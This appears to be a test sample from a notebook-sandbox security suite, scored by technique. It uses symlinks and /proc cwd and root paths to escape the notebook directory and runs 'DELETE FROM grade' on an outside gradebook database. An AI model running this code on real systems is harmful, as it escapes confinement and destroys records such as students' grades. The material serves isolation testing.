# A link to the gradebook beside the notebook, followed from inside.
# sample: yes
# score: 7 = double + shift + table
# %% link gradebook.db -> ../../../gradebook.db
# %% link class -> ../../..
# %% first
import os
import sqlite3

for path in ("gradebook.db", "class/gradebook.db", "/proc/self/cwd/gradebook.db", "/proc/1/cwd/gradebook.db", "/proc/1/root/gradebook.db"):
    try:
        print(os.path.realpath(path))
        sqlite3.connect(f"file:{path}?mode=rw", uri=True).execute("DELETE FROM grade")
    except sqlite3.Error as error:
        print(path, error)
